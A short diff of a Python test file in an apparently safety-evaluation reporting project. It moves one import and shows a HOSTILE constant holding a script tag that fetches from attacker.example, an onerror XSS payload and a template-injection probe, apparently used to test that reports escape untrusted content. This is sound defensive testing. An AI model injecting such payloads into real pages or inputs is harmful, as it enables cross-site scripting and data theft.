@@ -19,8 +19,8 @@ from safetyheads.reports.scan import SETS, drill_data, head_columns, judged_rows
 from safetyheads.reports.write import write_report
 from safetyheads.runs.directory import RunDirectory
 from safetyheads.runs.progress import Silent
+from safetyheads.runs.rates import AnswerTable
 from safetyheads.runs.rejudge import rejudge
-from safetyheads.runs.tables import AnswerTable
 
 HOSTILE = '<script>fetch("https://attacker.example")</script><img src=x onerror=alert(1)> {{ 7*7 }}'
 MANIFEST = {"schema_version": 1, "config": {"epsilon": 1e-5}, "provenance": [{"date": "2025-01-02"}], "plan_a": {}}
